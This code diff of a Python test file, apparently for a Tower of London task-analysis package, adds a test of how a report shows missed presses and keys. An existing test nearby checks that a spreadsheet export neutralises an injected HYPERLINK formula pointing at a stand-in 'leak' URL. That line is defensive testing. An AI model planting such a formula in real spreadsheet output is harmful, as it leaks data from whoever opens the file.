@@ -150,6 +150,7 @@ _NUMBERS_JS = """() => {
     const text = td.textContent.trim();
     if (!isNumber(text)) continue;
     let key = td.dataset.measure || td.dataset.col || null;
+    if (!key && td.dataset.participantField) key = 'field:' + td.dataset.participantField;
     if (!key) {  // a column's number: the column's header says what it is
       const table = td.closest('table');
       const header = table.tHead && table.tHead.rows[0] ? table.tHead.rows[0].cells[td.cellIndex] : null;
@@ -487,3 +488,33 @@ def test_a_spreadsheet_reading_the_reports_finds_no_formula(study, tmp_path):
     with zipfile.ZipFile(tmp_path / "P02_ses-1.ods") as ods:
         text = ods.read("content.xml").decode("utf-8")
     assert "<text:p>&apos;=HYPERLINK(&quot;http://example.com/?leak&quot;" in text  # as text
+
+
+def test_the_technical_section_shows_missed_presses_and_keys_when_the_recorder_counts_them():
+    # A sidecar of a session timed on arrival, as the runner writes it; the count of missed
+    # keys only newer runners write (issue 29): read when there, no row when not.
+    from tol_analysis.conventions import Conventions
+    from tol_analysis.report import _flags, _technical
+    from tol_tasks.session_data.sidecar import Sidecar
+
+    data = json.loads((GOLDEN / "london-tol-dx.json").read_text(encoding="utf-8"))
+    data["simulate"] = None
+    data["timing"].update(input_method="xinput2-raw", unmatched_presses=3)
+    t = messages()
+    trials = pd.DataFrame({"complete": [True], "problem_id": ["x"], "attempt": [1]})
+    for keys in (None, 2):
+        if keys is not None:
+            data["timing"]["unmatched_keys"] = keys
+        meta = Sidecar.from_dict(data)
+        rows = {r["key"]: r for r in _technical(meta, trials, Conventions(), t)}
+        assert rows["timing_method"]["value"] == "on arrival (xinput2-raw)"
+        assert rows["unmatched"]["value"] == 3
+        assert rows["unmatched"]["check"] is True
+        assert rows["unmatched"]["means"] == t["unmatched_means"]
+        flags = _flags({"simulated": False, "status": "completed"}, meta, t)
+        assert "3 presses polled" in flags
+        if keys is None:
+            assert "unmatched_keys" not in rows
+        else:
+            assert rows["unmatched_keys"]["value"] == 2
+            assert "2 keys polled" in flags
